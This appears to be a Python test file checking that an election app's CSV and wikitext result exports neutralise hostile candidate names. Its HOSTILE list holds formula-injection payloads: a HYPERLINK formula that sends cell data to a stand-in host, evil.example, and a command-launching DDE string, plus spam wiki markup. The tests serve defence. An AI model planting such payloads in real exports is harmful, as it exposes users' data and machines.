"""Exports others open are neutralised: no spreadsheet formulas in CSV cells, no wiki markup
from names in wikitext (issue 13)."""

from __future__ import annotations

import csv
import io

from app.counting.output import render
from app.eligibility.cli import render as render_roll
from app.eligibility.errors import EligibilityUnavailable
from app.eligibility.service import RollEntry
from app.neutralise import csv_cell, nowiki
from tests.service.helpers import ADMIN, election_config, login, run_ceremony, voter

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "{{Delete}} [[Category:Spam]] '''bold''' | x </nowiki> [[File:X.png]]",
]


def test_csv_cells_and_wikitext_names_are_neutralised(client, tmp_path) -> None:
    admin = login(client, ADMIN)
    config = election_config(trustees=1, threshold=1)
    config["questions"][0]["candidates"] = [{"name": {"en": n.replace("\t", "")}} for n in HOSTILE]
    eid = admin.post("/api/v1/elections", config)["id"]
    admin.post(f"/api/v1/elections/{eid}/roles", {"username": "T1", "role": "trustee"})
    admin.post(f"/api/v1/elections/{eid}/roll", {"usernames": ["Ann"]})
    admin.post(f"/api/v1/elections/{eid}/freeze")
    trustees = run_ceremony(client, eid, ["T1"], tmp_path)
    voter(client, eid, "Ann").cast([[1, -1, 0, 1, 0, 1]])
    admin.post(f"/api/v1/elections/{eid}/close", {"reason": "end"})
    admin.post(f"/api/v1/elections/{eid}/tally/start")
    trustees[0].decrypt()
    names = [n.replace("\t", "") for n in HOSTILE]

    rows = list(csv.DictReader(io.StringIO(client.get(f"/api/v1/elections/{eid}/results.csv").text)))
    cells = [r["candidate"] for r in rows]
    assert cells[:4] == ["'" + n for n in names[:4]]
    assert cells[5] == names[5]  # not a formula: kept as it is
    for row in rows:
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
    assert [r["support"] for r in rows] == ["1", "0", "0", "1", "0", "1"]

    wikitext = client.get(f"/api/v1/elections/{eid}/results.wikitext").text
    assert "[[Category:Spam]]" in wikitext  # shown, inside nowiki
    # every name, and the question's title (the caption)
    assert wikitext.count("<nowiki>") == wikitext.count("</nowiki>") == len(names) + 1
    assert (
        "| <nowiki>{{Delete}} [[Category:Spam]] '''bold''' | x &lt;/nowiki> [[File:X.png]]</nowiki> || 1 ||"
    ) in wikitext
    outside = wikitext
    for chunk in wikitext.split("<nowiki>")[1:]:
        outside = outside.replace(chunk.split("</nowiki>")[0], "")
    assert "{{" not in outside and "[[" not in outside


def test_the_neutralising_helpers() -> None:
    assert [csv_cell(v) for v in ("=1", "+1", "-1", "@a", "\tx", "\rx", "a=b", "", 5, -1)] == [
        "'=1",
        "'+1",
        "'-1",
        "'@a",
        "'\tx",
        "'\rx",
        "a=b",
        "",
        5,
        -1,
    ]
    assert nowiki("a</nowiki>{{b}}\n&amp;") == "<nowiki>a&lt;/nowiki>{{b}} &amp;amp;</nowiki>"


def test_counting_wikitext_and_roll_csv_are_neutralised() -> None:
    result = {
        "method": "schulze",
        "ballots": 3,
        "winners": ["{{A}}"],
        "tie": False,
        "ranking": [["{{A}}"], ["[[B]]"]],
        "pairwise": {"{{A}}": {"[[B]]": 2}, "[[B]]": {"{{A}}": 1}},
    }
    text = render(result, "wikitext")
    assert "{{A}}" not in text.replace("<nowiki>{{A}}</nowiki>", "")
    assert "[[B]]" not in text.replace("<nowiki>[[B]]</nowiki>", "")
    roll = render_roll([RollEntry("=cmd", None, error=EligibilityUnavailable("x"))], "csv")
    assert roll.splitlines()[1].startswith("'=cmd,,")
